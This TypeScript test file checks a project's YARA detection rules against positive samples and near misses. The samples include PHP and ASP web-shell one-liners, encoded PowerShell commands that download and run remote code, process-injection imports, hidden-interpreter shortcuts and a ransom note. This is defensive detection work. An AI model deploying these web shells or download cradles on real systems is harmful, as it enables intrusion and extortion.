import assert from 'node:assert/strict'
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, describe, it } from 'node:test'
import { technique } from '@opensoc/attack'
import { LEVELS } from '@opensoc/sigma'
import { openYaraScanner } from '@opensoc/yara'
import { portableExecutable } from './portable-executable.ts'

const RULES = import.meta.dirname
const scanner = await openYaraScanner(RULES)
after(() => scanner.close())

// What a scanner on the reader's machine would find in this file stands here in pieces.
const php = (code: string) => `<${'?php'} ${code} ?>`
const wide = (text: string) => Buffer.from(text, 'utf16le')
const encoded = (command: string) => wide(command).toString('base64')
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', 'STANDARD', 'ANTIVIRUS', 'TEST', 'FILE!$H+H*'].join('-')
const POST = ['$', '_POST'].join('')

const ole = (...parts: readonly (string | Buffer)[]) =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(504),
    wide('_VBA_PROJECT'),
    ...parts.map((part) => Buffer.from(part)),
  ])
const shortcut = (target: string) =>
  Buffer.concat([
    Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
    Buffer.alloc(56),
    wide(target),
  ])
const upx = (names: readonly string[]) =>
  portableExecutable({ sections: ['UPX0', 'UPX1', '.rsrc'], imports: { 'KERNEL32.DLL': names } })
const INJECTS = ['LoadLibraryA', 'WriteProcessMemory', 'CreateRemoteThread']
const ONION = `${'abcdefg2'.repeat(7)}.onion`
const NOTE = `All files on your network are encrypted. To restore them open http://${ONION}/ with Tor Browser.
Do not rename files. We publish what we took after 72 hours.`

interface Case {
  readonly fires: readonly (string | Buffer)[]
  /** Near misses: no rule of the set fires on them. */
  readonly not: readonly (string | Buffer)[]
}

const CASES: Readonly<Record<string, Case>> = {
  Malware_Test_File: {
    fires: [EICAR, `${EICAR}\r\n`],
    not: [`The test file reads ${EICAR}`, `${EICAR}${' '.repeat(200)}`],
  },
  Php_Runs_What_The_Request_Says: {
    fires: [
      php(`@eval(${POST}['p']);`),
      php(`system( ${POST}["cmd"] );`),
      php(`eval(base64_decode(${POST}['z0']));`),
      php(`echo \`${POST}[c]\`;`),
    ],
    not: [
      php(`$name = htmlspecialchars(${POST}['name']); exec('/usr/bin/convert a.png b.png');`),
      php(`$retrieval(${POST}['p']); $q = base64_decode(${POST}['state']);`),
      `Never write eval(${POST}['p']) in your code.`,
    ],
  },
  Asp_Runs_What_The_Request_Says: {
    fires: [
      ['<%', 'eval request("p")', '%>'].join(''),
      '<script language="JScript" runat="server">function Page_Load(){eval(Request["p"],"unsafe");}</script>',
      '<%@ Page Language="C#" %><% var i = new ProcessStartInfo("cmd.exe", "/c " + Request["c"]); %>',
    ],
    not: [
      '<% Dim id : id = Request("id") : Response.Write Server.HTMLEncode(id) %>',
      '<%@ Page Language="C#" %><% Process.Start("convert.exe", Server.MapPath(Request["f"])); %>',
      '<script>eval(request("p"))</script>',
    ],
  },
  Script_With_Encoded_PowerShell: {
    fires: [
      `powershell -w hidden -enc ${encoded("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')")}`,
      `Run "PowerShell.exe -NoP -EncodedCommand ${encoded(' Invoke-Expression $x')}"`,
      wide(`pwsh -e ${encoded('  Invoke-WebRequest https://example.com/b -OutFile b')}`),
    ],
    not: [
      `powershell -enc ${encoded('Get-Service | Where-Object Status -eq Running | Out-File services.txt')}`,
      `powershell -File install.ps1; ${encoded('Get-ChildItem').slice(0, 8)} Invoke-WebRequest`,
      `curl -e ${encoded("DownloadString('x')")}`,
    ],
  },
  Office_Macro_That_Downloads_Or_Starts: {
    fires: [
      ole('Attribut\0e VB_Name', 'AutoOpen', 'CreateObject', 'WScript.Shell', 'powershell'),
      ole('Attribut\0e VB_Name', ' Workbook_Open ', 'MSXML2.XMLHTTP', 'ADODB.Stream'),
    ],
    not: [
      ole('Attribut\0e VB_Name', 'Document_Open', 'ActiveDocument.Fields.Update', 'WScript.Shell'),
      ole('Attribut\0e VB_Name', 'FormatTable', 'WScript.Shell', 'MSXML2.XMLHTTP'),
      'Attribut AutoOpen WScript.Shell powershell',
    ],
  },
  Packed_With_Upx_And_Writes_To_Other_Processes: {
    fires: [upx(INJECTS), upx(['WriteProcessMemory', 'SetThreadContext'])],
    not: [
      upx(['LoadLibraryA', 'GetProcAddress', 'VirtualProtect']),
      upx(['WriteProcessMemory', 'CreateThread']),
      portableExecutable({ sections: ['.text', '.rdata'], imports: { 'KERNEL32.DLL': INJECTS } }),
    ],
  },
  Shortcut_That_Starts_A_Hidden_Interpreter: {
    fires: [
      shortcut('..\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -WindowStyle Hidden -File a.ps1'),
      shortcut('C:\\Windows\\System32\\mshta.exe https://example.com/a.hta'),
      shortcut(`powershell -enc ${encoded('Get-ChildItem -Recurse C:\\Users')}`),
    ],
    not: [
      shortcut('..\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoExit -File C:\\Ops\\menu.ps1'),
      shortcut('C:\\Program Files\\Browser\\browser.exe https://example.com/'),
      wide('mshta.exe https://example.com/a.hta'),
    ],
  },
  Ransom_Note: {
    fires: [NOTE, wide(NOTE)],
    not: [
      'Your data is encrypted in transit and at rest. To restore a backup see https://example.com/restore.',
      `Mirrors: http://${ONION}/ (use Tor Browser). Do not use other addresses.`,
      NOTE + '.'.repeat(64 * 1024),
    ],
  },
}

const names = readdirSync(RULES)
  .filter((file) => file.endsWith('.yar'))
  .flatMap((file) => [...readFileSync(join(RULES, file), 'utf8').matchAll(/^rule (\w+)/gm)])
  .map(([, name]) => name!)

async function firing(content: string | Buffer): Promise<string[]> {
  const scanned = await scanner.scan(Buffer.from(content))
  assert(scanned.ok, JSON.stringify(scanned))
  return scanned.value.map(({ rule }) => rule)
}

describe('the shipped YARA rules', () => {
  it('compile without a warning, and each has its cases', () => {
    assert.deepEqual(scanner.warnings, [])
    assert.deepEqual(Object.keys(CASES).sort(), names.toSorted())
  })

  for (const [name, { fires, not }] of Object.entries(CASES)) {
    it(`${name} fires on what it is for, and nothing on its near misses`, async () => {
      for (const content of fires)
        assert.deepEqual(await firing(content), [name], String(content).slice(0, 99))
      for (const content of not) assert.deepEqual(await firing(content), [], String(content).slice(0, 99))
    })
  }

  it('say what to think, how bad it is, and with which techniques', async () => {
    for (const { fires } of Object.values(CASES)) {
      const scanned = await scanner.scan(Buffer.from(fires[0]!))
      const { meta, rule } = scanned.ok ? scanned.value[0]! : assert.fail()
      assert.match(
        String(meta['id']),
        /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/,
        rule,
      )
      assert(
        LEVELS.some((level) => level === meta['level']),
        rule,
      )
      assert(String(meta['description']).length > 60 && String(meta['falsepositives']).length > 20, rule)
      for (const id of String(meta['attack'] ?? '').match(/T[\d.]+/g) ?? [])
        assert(technique(id), `${rule}: ${id}`)
    }
  })
})
